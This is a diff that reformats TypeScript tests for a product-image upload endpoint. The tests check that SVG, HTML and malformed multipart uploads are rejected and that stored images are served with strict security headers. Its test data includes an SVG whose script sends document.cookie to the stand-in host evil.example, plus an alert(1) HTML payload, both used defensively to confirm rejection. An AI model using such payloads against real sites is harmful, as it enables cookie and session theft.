@@ -11,29 +11,58 @@ let p: TestPlatform;
 let sales: string;
 const CREATE = '/api/services/app/Product/CreateImage';
 // A real 1×1 transparent PNG.
-const PNG = Buffer.from('89504e470d0a1a0a0000000d4948445200000001000000010806000000'
-  + '1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b9b10000000049454e44ae426082', 'hex');
-const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?c="+document.cookie)</script></svg>');
+const PNG = Buffer.from(
+  '89504e470d0a1a0a0000000d4948445200000001000000010806000000' +
+    '1f15c4890000000d4944415478da63f8cfc0f01f0005000201a5d2b9b10000000049454e44ae426082',
+  'hex',
+);
+const SVG = Buffer.from(
+  '<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.example/?c="+document.cookie)</script></svg>',
+);
 
 beforeAll(async () => {
   p = await createTestPlatform();
   sales = await p.login('sprzedaz');
 });
-afterAll(async () => { await p?.close(); });
+afterAll(async () => {
+  await p?.close();
+});
 
-function multipart(fields: Record<string, string>, file?: { name: string; type: string; data: Buffer; field?: string }) {
+function multipart(
+  fields: Record<string, string>,
+  file?: { name: string; type: string; data: Buffer; field?: string },
+) {
   const boundary = '----armatura' + Math.random().toString(16).slice(2);
-  const parts: Buffer[] = Object.entries(fields).map(([k, v]) => Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
-  if (file) parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`), file.data, Buffer.from('\r\n'));
+  const parts: Buffer[] = Object.entries(fields).map(([k, v]) =>
+    Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`),
+  );
+  if (file)
+    parts.push(
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="${file.field ?? 'file'}"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
+      ),
+      file.data,
+      Buffer.from('\r\n'),
+    );
   parts.push(Buffer.from(`--${boundary}--\r\n`));
-  return { payload: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
+  return {
+    payload: Buffer.concat(parts),
+    headers: { 'content-type': `multipart/form-data; boundary=${boundary}` },
+  };
 }
 
 const uploadsDir = () => join(p.ctx.config.dataDir, 'uploads', 'catalog');
 const storedFiles = async () => (await readdir(uploadsDir()).catch(() => [] as string[])).sort();
-const imageRows = async () => ((await sql`select count(*)::int as n from catalog.product_images`.execute(p.ctx.db)).rows[0] as { n: number }).n;
+const imageRows = async () =>
+  (
+    (await sql`select count(*)::int as n from catalog.product_images`.execute(p.ctx.db))
+      .rows[0] as { n: number }
+  ).n;
 
-async function expectRejectedAndNothingStored(request: { payload: Buffer; headers: Record<string, string> }, message?: string | RegExp) {
+async function expectRejectedAndNothingStored(
+  request: { payload: Buffer; headers: Record<string, string> },
+  message?: string | RegExp,
+) {
   const files = await storedFiles();
   const rows = await imageRows();
   const res = await p.call({ method: 'POST', url: CREATE, token: sales, ...request });
@@ -47,17 +76,29 @@ async function expectRejectedAndNothingStored(request: { payload: Buffer; header
 
 describe('CreateImage accepts only raster images, judged by their bytes', () => {
   it('rejects an SVG with a script (400, Polish message, nothing stored)', async () => {
-    await expectRejectedAndNothingStored(multipart({ productId: '1' }, { name: 'zdjecie.svg', type: 'image/svg+xml', data: SVG }),
-      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.');
+    await expectRejectedAndNothingStored(
+      multipart({ productId: '1' }, { name: 'zdjecie.svg', type: 'image/svg+xml', data: SVG }),
+      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.',
+    );
   });
 
   it('rejects an SVG that claims to be a PNG by its name and declared type', async () => {
-    await expectRejectedAndNothingStored(multipart({ productId: '1' }, { name: 'zdjecie.png', type: 'image/png', data: SVG }),
-      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.');
+    await expectRejectedAndNothingStored(
+      multipart({ productId: '1' }, { name: 'zdjecie.png', type: 'image/png', data: SVG }),
+      'Dozwolone są tylko obrazy JPEG, PNG, WebP, AVIF lub GIF.',
+    );
   });
 
   it('accepts a PNG renamed .svg with an SVG content type, stores and serves it as image/png', async () => {
-    const res = await p.call({ method: 'POST', url: CREATE, token: sales, ...multipart({ productId: '1', alt: 'Widok', sort: '2' }, { name: 'a.svg', type: 'image/svg+xml', data: PNG }) });
+    const res = await p.call({
+      method: 'POST',
+      url: CREATE,
+      token: sales,
+      ...multipart(
+        { productId: '1', alt: 'Widok', sort: '2' },
+        { name: 'a.svg', type: 'image/svg+xml', data: PNG },
+      ),
+    });
     expect(res.status).toBe(200);
     expect(res.body.result).toMatchObject({ productId: 1, alt: 'Widok', sort: 2 });
     expect(res.body.result.url).toMatch(/^\/api\/catalog\/uploads\/[0-9a-f-]{36}\.png$/);
@@ -66,7 +107,9 @@ describe('CreateImage accepts only raster images, judged by their bytes', () => 
     expect(file.rawPayload.equals(PNG)).toBe(true);
     expect(file.headers['content-type']).toBe('image/png');
     expect(file.headers['x-content-type-options']).toBe('nosniff');
-    expect(file.headers['content-security-policy']).toBe("default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox");
+    expect(file.headers['content-security-policy']).toBe(
+      "default-src 'none'; img-src 'self'; style-src 'unsafe-inline'; sandbox",
+    );
     expect(file.headers['content-disposition']).toBeUndefined();
   });
 
@@ -78,48 +121,108 @@ describe('CreateImage accepts only raster images, judged by their bytes', () => 
       gif: '47494638396101000100800000000000ffffff21f90401000000002c00000000010001000002024401003b',
     };
     for (const [ext, hex] of Object.entries(samples)) {
-      const res = await p.call({ method: 'POST', url: CREATE, token: sales, ...multipart({ productId: '1' }, { name: 'x.bin', type: 'application/octet-stream', data: Buffer.from(hex, 'hex') }) });
+      const res = await p.call({
+        method: 'POST',
+        url: CREATE,
+        token: sales,
+        ...multipart(
+          { productId: '1' },
+          { name: 'x.bin', type: 'application/octet-stream', data: Buffer.from(hex, 'hex') },
+        ),
+      });
       expect(res.status, ext).toBe(200);
       expect(res.body.result.url.endsWith(`.${ext}`), ext).toBe(true);
     }
   });
 
   it('rejects HTML and text dressed as images, and an empty file', async () => {
-    await expectRejectedAndNothingStored(multipart({ productId: '1' }, { name: 'a.jpg', type: 'image/jpeg', data: Buffer.from('<html><script>alert(1)</script></html>') }));
-    await expectRejectedAndNothingStored(multipart({ productId: '1' }, { name: 'a.gif', type: 'image/gif', data: Buffer.alloc(0) }));
+    await expectRejectedAndNothingStored(
+      multipart(
+        { productId: '1' },
+        {
+          name: 'a.jpg',
+          type: 'image/jpeg',
+          data: Buffer.from('<html><script>alert(1)</script></html>'),
+        },
+      ),
+    );
+    await expectRejectedAndNothingStored(
+      multipart({ productId: '1' }, { name: 'a.gif', type: 'image/gif', data: Buffer.alloc(0) }),
+    );
   });
 });
 
 describe('CreateImage validates the multipart request', () => {
   it('answers bad productId, sort and alt with a 400 naming the field', async () => {
     for (const [fields, member] of [
-      [{}, 'productId'], [{ productId: 'abc' }, 'productId'], [{ productId: '0' }, 'productId'], [{ productId: '1e3' }, 'productId'],
-      [{ productId: '99999999999999999999' }, 'productId'], [{ productId: '1', sort: '-1' }, 'sort'], [{ productId: '1', sort: '1.5' }, 'sort'],
+      [{}, 'productId'],
+      [{ productId: 'abc' }, 'productId'],
+      [{ productId: '0' }, 'productId'],
+      [{ productId: '1e3' }, 'productId'],
+      [{ productId: '99999999999999999999' }, 'productId'],
+      [{ productId: '1', sort: '-1' }, 'sort'],
+      [{ productId: '1', sort: '1.5' }, 'sort'],
       [{ productId: '1', alt: 'x'.repeat(301) }, 'alt'],
     ] as const) {
-      const res = await expectRejectedAndNothingStored(multipart(fields as Record<string, string>, { name: 'a.png', type: 'image/png', data: PNG }));
-      expect(res.body.error.validationErrors?.[0]?.members, JSON.stringify(fields)).toEqual([member]);
+      const res = await expectRejectedAndNothingStored(
+        multipart(fields as Record<string, string>, {
+          name: 'a.png',
+          type: 'image/png',
+          data: PNG,
+        }),
+      );
+      expect(res.body.error.validationErrors?.[0]?.members, JSON.stringify(fields)).toEqual([
+        member,
+      ]);
     }
   });
 
   it('answers an unknown product with 404 and stores nothing', async () => {
     const files = await storedFiles();
-    const res = await p.call({ method: 'POST', url: CREATE, token: sales, ...multipart({ productId: '2147483647' }, { name: 'a.png', type: 'image/png', data: PNG }) });
+    const res = await p.call({
+      method: 'POST',
+      url: CREATE,
+      token: sales,
+      ...multipart({ productId: '2147483647' }, { name: 'a.png', type: 'image/png', data: PNG }),
+    });
     expect(res.status).toBe(404);
     expect(await storedFiles()).toEqual(files);
   });
 
   it('answers malformed multipart (no boundary, no file, cut-off body, two files, not multipart) with a 400 envelope', async () => {
     const ok = multipart({ productId: '1' }, { name: 'a.png', type: 'image/png', data: PNG });
-    await expectRejectedAndNothingStored({ payload: ok.payload, headers: { 'content-type': 'multipart/form-data' } });
+    await expectRejectedAndNothingStored({
+      payload: ok.payload,
+      headers: { 'content-type': 'multipart/form-data' },
+    });
     await expectRejectedAndNothingStored(multipart({ productId: '1' }), /Dołącz plik obrazu/);
-    await expectRejectedAndNothingStored(multipart({ productId: '1' }, { name: 'a.png', type: 'image/png', data: PNG, field: 'other' }));
-    await expectRejectedAndNothingStored({ payload: ok.payload.subarray(0, ok.payload.length - 60), headers: ok.headers });
-    await expectRejectedAndNothingStored({ payload: Buffer.from('garbage without any boundary'), headers: ok.headers });
+    await expectRejectedAndNothingStored(
+      multipart(
+        { productId: '1' },
+        { name: 'a.png', type: 'image/png', data: PNG, field: 'other' },
+      ),
+    );
+    await expectRejectedAndNothingStored({
+      payload: ok.payload.subarray(0, ok.payload.length - 60),
+      headers: ok.headers,
+    });
+    await expectRejectedAndNothingStored({
+      payload: Buffer.from('garbage without any boundary'),
+      headers: ok.headers,
+    });
     const boundary = ok.headers['content-type'].split('boundary=')[1]!;
-    const twoFiles = Buffer.concat([ok.payload.subarray(0, ok.payload.length - boundary.length - 6),
-      Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="b.png"\r\nContent-Type: image/png\r\n\r\n`), PNG, Buffer.from(`\r\n--${boundary}--\r\n`)]);
+    const twoFiles = Buffer.concat([
+      ok.payload.subarray(0, ok.payload.length - boundary.length - 6),
+      Buffer.from(
+        `--${boundary}\r\nContent-Disposition: form-data; name="file"; filename="b.png"\r\nContent-Type: image/png\r\n\r\n`,
+      ),
+      PNG,
+      Buffer.from(`\r\n--${boundary}--\r\n`),
+    ]);
     await expectRejectedAndNothingStored({ payload: twoFiles, headers: ok.headers });
-    await expectRejectedAndNothingStored({ payload: Buffer.from('{"productId":1}'), headers: { 'content-type': 'application/json' } });
+    await expectRejectedAndNothingStored({
+      payload: Buffer.from('{"productId":1}'),
+      headers: { 'content-type': 'application/json' },
+    });
   });
 });
